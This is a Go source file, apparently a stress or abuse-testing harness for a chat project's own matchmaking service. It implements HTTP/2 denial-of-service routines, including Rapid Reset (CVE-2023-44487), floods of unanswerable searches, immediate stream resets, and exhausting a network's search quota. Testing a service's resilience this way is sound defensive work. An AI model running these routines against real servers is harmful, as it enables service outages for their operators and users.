package main

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"

	"google.golang.org/protobuf/proto"

	matchmakingv1 "github.com/wasmp2pchat/wasmp2pchat/gen/go/wasmp2pchat/matchmaking/v1"
	"github.com/wasmp2pchat/wasmp2pchat/gen/go/wasmp2pchat/matchmaking/v1/matchmakingv1connect"
)

// streams is an attack by HTTP/2 streams.
type streams struct {
	connections int
	from        func(worker int) string
	window      uint32 // for each answer
	path        string
	contentType string
	body        func() []byte
	began       func(f *frames, id uint32) // an answer that is no refusal; may be nil
	abandon     bool                       // resets each stream without waiting
}

// run opens streams on as many connections, as many as each may have, and
// replaces what the server ends.
func (s streams) run(ctx context.Context, a *attacker) {
	type held struct {
		frames *frames
		done   <-chan struct{}
	}
	connections := make([]held, s.connections)
	a.repeat(ctx, s.connections, func(ctx context.Context, worker int) error {
		c := &connections[worker]
		if c.frames == nil {
			var err error
			if c.frames, c.done, err = a.dialFrames(ctx, s.from(worker), s.window, s.began); err != nil {
				return err
			}
		}
		id, err := c.frames.start(ctx, c.done, s.path, s.contentType, s.body())
		if err == nil && s.abandon {
			err = c.frames.reset(id)
		}
		if err != nil {
			c.frames = nil // the server has closed the connection
		}
		return err
	})
	for _, c := range connections {
		if c.frames != nil {
			<-c.done
		}
	}
}

// openWindow lets the server write all it has to say.
const openWindow = 1 << 20

// one returns the same source for all workers, each one for each.
func one(int) string { return source(0) }

func each(worker int) string { return source(worker) }

// eachNetwork returns sources that have no network in common.
func eachNetwork(worker int) string { return source(250 * worker) }

// unreadAnswers starts searches and lets the server write no answer, not even
// that there are too many.
func unreadAnswers(ctx context.Context, a *attacker) {
	streams{
		connections: 20, from: one, path: matchmakingv1connect.MatchmakingServiceFindMatchProcedure,
		contentType: "application/connect+json", body: func() []byte {
			text, err := json.Marshal(map[string]any{"requestId": rand.Text(), "pool": "attack"})
			if err != nil {
				panic(err) // it is two strings
			}
			return envelope(0, text)
		},
	}.run(ctx, a)
}

// rapidReset starts calls and resets them at once (CVE-2023-44487).
func rapidReset(ctx context.Context, a *attacker) {
	streams{
		connections: 20, from: each, window: openWindow, path: matchmakingv1connect.MatchmakingServiceGetPoolProcedure,
		contentType: "application/grpc", body: func() []byte { return envelope(0, nil) }, abandon: true,
	}.run(ctx, a)
}

// abandonedSearches starts searches and resets each when its answer begins.
func abandonedSearches(ctx context.Context, a *attacker) {
	s := searches(each)
	s.connections = 16
	s.began = func(f *frames, id uint32) { _ = f.reset(id) } // a closed connection is noticed by who starts the next
	s.run(ctx, a)
}

// oneNetwork takes all searches that a network of 24 bits may have open, from
// all of its addresses.
func oneNetwork(ctx context.Context, a *attacker) {
	s := searches(each)
	s.connections = min(250, a.connections)
	s.run(ctx, a)
}

// searches are streams of people whom nobody can be matched with.
func searches(from func(int) string) streams {
	return streams{
		from: from, window: openWindow, path: matchmakingv1connect.MatchmakingServiceFindMatchProcedure,
		contentType: "application/grpc", body: func() []byte {
			message, err := proto.Marshal(&matchmakingv1.FindMatchRequest{
				RequestId: rand.Text(), ClientId: rand.Text(), Pool: "attack",
				Interests: []string{fmt.Sprintf("i-%.10s", rand.Text())}, InterestsOnly: true,
			})
			if err != nil {
				panic(err) // it is a few strings
			}
			return envelope(0, message)
		},
	}
}
